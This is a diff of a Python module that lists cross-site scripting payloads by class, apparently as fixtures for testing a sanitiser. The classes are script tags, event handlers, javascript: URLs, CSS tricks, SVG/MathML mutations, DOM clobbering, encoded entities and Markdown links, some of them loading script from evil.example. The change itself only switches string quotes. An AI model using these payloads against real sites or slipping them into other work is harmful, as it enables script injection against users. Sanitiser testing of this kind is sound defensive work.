@@ -1,6 +1,6 @@
 """Ways to put a script into a page, by the classes that are known. `alert(1)` stands for the script."""
 
-ELEMENTS = r'''
+ELEMENTS = r"""
 <script>alert(1)</script>
 <SCRIPT SRC=//evil.example/x.js></SCRIPT>
 <script/src="//evil.example/x.js"></script>
@@ -68,7 +68,7 @@ ELEMENTS = r'''
 <!-- --!><img src=x onerror=alert(1)>-->
 <!-- <!-- --><script>alert(1)</script>
 <comment><img src="</comment><img src=x onerror=alert(1)//">
-'''
+"""
 
 HANDLERS = r'''
 <img src=x onerror=alert(1)>
@@ -101,7 +101,7 @@ HANDLERS = r'''
 <ol onscroll=alert(1)><li onwheel=alert(1)>x</ol>
 '''
 
-ADDRESSES = r'''
+ADDRESSES = r"""
 <a href="javascript:alert(1)">x</a>
 <a href="JaVaScRiPt:alert(1)">x</a>
 <a href=javascript:alert(1)>x</a>
@@ -137,18 +137,18 @@ ADDRESSES = r'''
 <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
 <blockquote cite="javascript:alert(1)">x</blockquote>
 <del cite="javascript:alert(1)">x</del>
-'''
+"""
 
-STYLES = r'''
+STYLES = r"""
 <div style="background:url(javascript:alert(1))">x</div>
 <div style="width:expression(alert(1))">x</div>
 <div style="position:fixed;inset:0;opacity:0"><a href="https://evil.example/">x</a></div>
 <p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
 <p class="crosslink" style="x:y">x</p>
 <font color=red size="&{alert(1)}">x</font>
-'''
+"""
 
-FOREIGN = r'''
+FOREIGN = r"""
 <svg onload=alert(1)>
 <svg/onload=alert(1)//
 <svg><script>alert(1)</script></svg>
@@ -172,9 +172,9 @@ FOREIGN = r'''
 <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style></h1>
 <table><tr><td><svg><td><style><img src=x onerror=alert(1)></style></table>
 <b><template><svg><b></template><img src=x onerror=alert(1)>
-'''
+"""
 
-CLOBBERING = r'''
+CLOBBERING = r"""
 <a id="location" href="https://evil.example/">x</a>
 <a id=x><a id=x name=y href="https://evil.example/">x</a>
 <img name=cookie src=x>
@@ -184,9 +184,9 @@ CLOBBERING = r'''
 <p id=defaultView>x</p>
 <div class="crosslink pagefind-ui">x</div>
 <span class="admin">x</span>
-'''
+"""
 
-ENTITIES = r'''
+ENTITIES = r"""
 &lt;script&gt;alert(1)&lt;/script&gt;
 &amp;lt;script&amp;gt;alert(1)
 &#60;script&#62;alert(1)&#60;/script&#62;
@@ -200,9 +200,9 @@ ENTITIES = r'''
 ＜script＞alert(1)＜/script＞
 %3Cscript%3Ealert(1)%3C/script%3E
 {{ alert(1) }} {% include "x" %} ${alert(1)} <%= alert(1) %>
-'''
+"""
 
-MARKDOWN = r'''
+MARKDOWN = r"""
 [x](javascript:alert(1))
 [x](JAVASCRIPT:alert(1))
 [x](<javascript:alert(1)>)
@@ -243,9 +243,9 @@ Read <script>alert(1)</script>
 READ: [x]({index}javascript:alert(1))
 READ: </p><script>alert(1)</script>
 READ: [[<script>alert(1)</script>]]
-'''
+"""
 
-INTRASITE = r'''
+INTRASITE = r"""
 [x]({index}javascript:alert(1))
 [x]({filename}javascript:alert(1))
 [x]({static}javascript:alert(1))
@@ -284,7 +284,7 @@ INTRASITE = r'''
 <form action="{index}javascript:alert(1)">x</form>
 <blockquote cite="{index}javascript:alert(1)">x</blockquote>
 <img src="{static}javascript:alert(1)">
-'''
+"""
 
 SEVERAL_LINES = [
     "[x]: javascript:alert(1)\n\n[x] [y][x]",
